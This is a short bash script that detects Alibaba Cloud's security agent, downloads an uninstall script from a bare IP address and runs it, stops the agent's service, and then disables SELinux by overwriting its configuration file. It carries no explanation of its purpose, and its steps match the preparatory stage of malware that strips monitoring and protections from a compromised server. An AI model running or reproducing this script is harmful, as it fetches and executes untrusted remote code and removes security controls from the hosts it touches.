#!/bin/bash
if ps aux | grep -i aliyun; then
  wget http://192.0.2.9/uninstall.sh
  chmod +x uninstall.sh && ./uninstall.sh
  systemctl stop aliyun.service
fi
echo SELINUX=disabled > /etc/selinux/config
